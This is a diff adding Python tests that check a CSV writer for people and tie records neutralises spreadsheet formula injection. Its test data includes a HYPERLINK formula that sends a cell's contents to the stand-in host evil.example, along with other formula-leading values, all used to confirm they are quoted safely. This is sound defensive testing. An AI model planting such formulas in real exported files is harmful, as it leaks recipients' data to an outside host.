@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 from datetime import UTC, datetime, timedelta, timezone
 from pathlib import Path
 
@@ -252,3 +253,42 @@ def test_write_ties_converts_offsets_to_utc(tmp_path: Path) -> None:
     write_ties(path, [Tie("a", "b", occurred_at=when)])
     assert "2024-03-01T09:30:00Z" in path.read_text()
     assert read_ties(path)[0].occurred_at == when
+
+
+# Spreadsheet formula injection (issue 10, item 4) ----------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
+            "\tcmd", "\rcmd", "'=already quoted"]
+
+
+def test_written_ties_and_people_never_start_a_cell_with_a_formula(tmp_path: Path) -> None:
+    people = [Person(f"U{i}", name=text, team=text, title=text, attrs={"note": text})
+              for i, text in enumerate(FORMULAS)]
+    ties = [Tie("U0", "U1", kind=text, origin=text) for text in FORMULAS]
+    write_people(tmp_path / "people.csv", people)
+    write_ties(tmp_path / "ties.csv", ties)
+    for name in ("people.csv", "ties.csv"):
+        with (tmp_path / name).open(encoding="utf-8", newline="") as handle:
+            cells = [cell for row in csv.reader(handle) for cell in row]
+        for text in FORMULAS:
+            assert text not in cells
+        risky = [c for c in cells if c and c[0] in "=+-@\t\r"]
+        assert risky == [], risky
+        assert "'" + FORMULAS[0] in cells
+
+
+def test_neutralised_cells_read_back_exactly(tmp_path: Path) -> None:
+    people = [Person(f"U{i}", name=text, attrs={"note": text}) for i, text in enumerate(FORMULAS)]
+    ties = [Tie("=U0", "U1", kind=text, weight=2.0) for text in FORMULAS]
+    write_people(tmp_path / "people.csv", people)
+    write_ties(tmp_path / "ties.csv", ties)
+    back = read_people(tmp_path / "people.csv")
+    assert [p.name for p in back] == FORMULAS
+    assert [p.attrs["note"] for p in back] == FORMULAS
+    assert {t.source for t in read_ties(tmp_path / "ties.csv")} == {"=U0"}
+
+
+def test_plain_numbers_are_not_quoted(tmp_path: Path) -> None:
+    write_people(tmp_path / "people.csv", [Person("-1", name="+44 20 7946 0000", title="-2.5")])
+    text = (tmp_path / "people.csv").read_text(encoding="utf-8")
+    assert "\n-1,'+44 20 7946 0000,,,-2.5," in text  # a phone number with spaces is quoted
